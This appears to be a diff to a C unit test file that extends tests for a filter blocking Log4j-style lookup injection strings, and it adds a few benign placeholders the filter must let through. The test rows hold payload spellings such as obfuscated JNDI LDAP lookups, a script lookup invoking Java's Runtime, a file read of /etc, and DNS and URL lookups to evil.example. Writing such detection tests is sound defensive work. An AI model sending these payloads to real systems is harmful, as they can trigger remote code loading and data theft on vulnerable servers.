@@ -44,6 +44,10 @@ static void blocks_lookups_however_they_are_spelled(void **state)
         {"spelling 20", PEN_STR("${script:javascript:java.lang.Runtime.getRuntime()}")},
         {"spelling 21", PEN_STR("${dns:address|evil.example}")},
         {"spelling 22", PEN_STR("${url:UTF-8:http://evil.example}")},
+        {"behind a lookup that gives nothing", PEN_STR("${${main:0}jndi:ldap://x}")},
+        {"a blank", PEN_STR("${ jndi:ldap://x/a}")},
+        {"a file", PEN_STR("${file:utf-8:/etc/x}")},
+        {"a constant of Java", PEN_STR("${const:java.lang.Integer.MAX_VALUE}")},
     };
     filter_case_blocks(&it, "jndi", rows, PEN_COUNT_OF(rows));
 }
@@ -111,6 +115,8 @@ static void stays_silent_on_placeholders(void **state)
         {"placeholder 19", PEN_STR("$100: a lot")},
         {"placeholder 20", PEN_STR("${foo:bar}")},
         {"placeholder 21", PEN_STR("a:${b}:c")},
+        {"a property", PEN_STR("${myjndi:x}")},
+        {"a file of a build", PEN_STR("${file.name}")},
     };
     filter_case_passes(&it, "jndi", rows, PEN_COUNT_OF(rows));
 }
